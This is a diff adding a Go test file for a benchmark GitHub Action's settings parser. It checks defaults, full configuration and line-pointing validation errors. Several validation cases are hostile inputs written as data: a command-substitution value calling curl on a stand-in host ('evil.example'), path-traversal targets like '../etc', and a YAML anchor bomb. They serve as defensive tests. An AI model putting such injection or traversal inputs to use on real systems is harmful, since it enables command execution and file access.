@@ -1,0 +1,139 @@
+package settings_test
+
+import (
+	"encoding/json"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/ghx-dev/bench-action/internal/app/settings"
+	"github.com/ghx-dev/bench-action/internal/bench"
+	"github.com/ghx-dev/bench-action/internal/jsondoc"
+)
+
+var known = settings.Known{Sets: []string{"ci-verify-pr", "issues"}, Scenarios: []string{"pr-merge-001", "issue-view-001"}}
+
+func TestAFileWithAModelIsEnough(t *testing.T) {
+	s, problems := settings.Parse([]byte("model: openai/gpt-5.3-codex\n"), known)
+	require.Empty(t, problems)
+	want := settings.Defaults()
+	want.Model = "openai/gpt-5.3-codex"
+	assert.Equal(t, want, s)
+	assert.Equal(t, []bench.Mode{bench.AgentDirect, bench.GHX}, s.Modes)
+	assert.Equal(t, 4, s.Repetitions)
+}
+
+func TestEverythingCanBeSet(t *testing.T) {
+	s, problems := settings.Parse([]byte(`
+version: 1
+triggers:
+  pull_request: [labeled, synchronize]
+  merge_group: true
+  drafts: true
+labels: {run: bench, skip: no-bench}
+paths: ["packages/core/**", "!**/*.md"]
+profile: verify_release
+scenario_set: issues
+modes: [agent_direct, mcp, ghx]
+baseline_mode: mcp
+repetitions: 8
+model: scripted
+target: aryeko/ghx-bench-fixtures
+executor: local
+workflow: measure.yaml
+timeout_minutes: 30
+budget: {run: 1.5, pull_request: 5, day: 20}
+commands: {permission: maintain}
+forks: never
+comment: on-change
+check_name: agents
+`), known)
+	require.Empty(t, problems)
+	assert.Equal(t, settings.Settings{
+		Triggers: settings.Triggers{PullRequest: []string{"labeled", "synchronize"}, MergeGroup: true, Drafts: true},
+		Labels:   settings.Labels{Run: "bench", Skip: "no-bench"}, Paths: []string{"packages/core/**", "!**/*.md"},
+		Profile: bench.VerifyRelease, ScenarioSet: "issues", Modes: []bench.Mode{bench.AgentDirect, bench.MCP, bench.GHX}, BaselineMode: bench.MCP,
+		Repetitions: 8, Model: settings.Scripted, Target: "aryeko/ghx-bench-fixtures", Executor: settings.Local, Workflow: "measure.yaml", Benchmark: "ghx", TimeoutMinutes: 30,
+		Budget: settings.Budget{Run: 1.5, PullRequest: 5, Day: 20}, Commands: settings.Commands{Permission: "maintain"}, Forks: settings.ForksNever,
+		Comment: "on-change", CheckName: "agents",
+	}, s)
+}
+
+func TestAnEmptyListTakesTheDefaultsPlace(t *testing.T) {
+	s, problems := settings.Parse([]byte("model: a/b\ntriggers:\n  pull_request: []\n"), known)
+	require.Empty(t, problems)
+	assert.Empty(t, s.Triggers.PullRequest, "nothing starts by itself")
+	assert.False(t, s.Triggers.MergeGroup)
+}
+
+func TestMistakesPointAtTheirLine(t *testing.T) {
+	for _, c := range []struct {
+		name, yaml string
+		line       int
+		says       string
+	}{
+		{"no model", "repetitions: 4\n", 1, "model"},
+		{"a misspelt field", "model: a/b\nrepetition: 4\n", 2, `did you mean "repetitions"?`},
+		{"a wrong type", "model: a/b\nrepetitions: four\n", 2, "repetitions"},
+		{"too many repetitions", "model: a/b\n\nrepetitions: 101\n", 3, "at most 100"},
+		{"a model with a shell's words", "model: \"$(curl evil.example)\"\n", 1, "model"},
+		{"an unknown mode", "model: a/b\nmodes: [agent_direct, gxh]\n", 2, `must be one of "agent_direct", "mcp", "ghx"`},
+		{"modes without the candidate", "model: a/b\nmodes: [agent_direct, mcp]\n", 2, "lacks ghx"},
+		{"modes without the baseline", "model: a/b\nmodes: [mcp, ghx]\n", 2, "lacks agent_direct"},
+		{"an unknown set", "model: a/b\nscenario_set: isues\n", 2, `did you mean "issues"?`},
+		{"an unknown scenario", "model: a/b\nscenarios:\n  - issue-view-001\n  - pr-merge-002\n", 4, `did you mean "pr-merge-001"?`},
+		{"a set and scenarios", "model: a/b\nscenario_set: issues\nscenarios: [pr-merge-001]\n", 3, "leave one of them out"},
+		{"a pattern that cannot be read", "model: a/b\npaths: [\"[a\"]\n", 2, "has no end"},
+		{"patterns that leave all out", "model: a/b\npaths: [\"!docs/**\"]\n", 2, "nothing can match"},
+		{"a trigger without its label", "model: a/b\ntriggers:\n  pull_request: [labeled]\n", 3, "labels.run"},
+		{"one label for both", "model: a/b\nlabels: {run: X, skip: x}\n", 2, "use two"},
+		{"a budget above its frame", "model: a/b\nbudget:\n  run: 60\n", 3, "above the 50 of budget.pull_request"},
+		{"a budget of nothing", "model: a/b\nbudget: {run: 0}\n", 2, "budget.run"},
+		{"a target that is a path", "model: a/b\ntarget: ../etc\n", 2, "target"},
+		{"a workflow that is a path", "model: a/b\nworkflow: ../x.yml\n", 2, "workflow"},
+		{"a bomb", "a: &a [x, x]\nb: &b [*a, *a]\nmodel: *b\n", 1, "anchor"},
+		{"no object", "- model\n", 1, "must be an object"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			_, problems := settings.Parse([]byte(c.yaml), known)
+			require.NotEmpty(t, problems)
+			assert.Contains(t, problems.Error(), c.says)
+			assert.Equal(t, c.line, problems[0].Line)
+			assert.Equal(t, settings.Path, problems[0].File)
+		})
+	}
+}
+
+// The schema tells editors the defaults; they are those of the program.
+func TestTheSchemasDefaultsHold(t *testing.T) {
+	schema, problems := jsondoc.Parse("bench.schema.json", settings.Schema())
+	require.Empty(t, problems)
+	raw, err := json.Marshal(settings.Defaults())
+	require.NoError(t, err)
+	program, problems := jsondoc.Parse("defaults", raw)
+	require.Empty(t, problems)
+
+	held := 0
+	var compare func(schemaPath, path []string)
+	compare = func(schemaPath, path []string) {
+		fields, _ := schema.At(append(schemaPath, "properties")...)
+		for name := range fields.(map[string]any) {
+			at, place := append(append([]string{}, schemaPath...), "properties", name), append(append([]string{}, path...), name)
+			if _, nested := schema.At(append(at, "properties")...); nested {
+				compare(at, place)
+				continue
+			}
+			stated, has := schema.At(append(at, "default")...)
+			if !has {
+				continue
+			}
+			value, there := program.At(place...)
+			require.True(t, there, "%v is no setting", place)
+			assert.EqualValues(t, stated, value, "%v", place)
+			held++
+		}
+	}
+	compare(nil, nil)
+	assert.GreaterOrEqual(t, held, 18)
+}
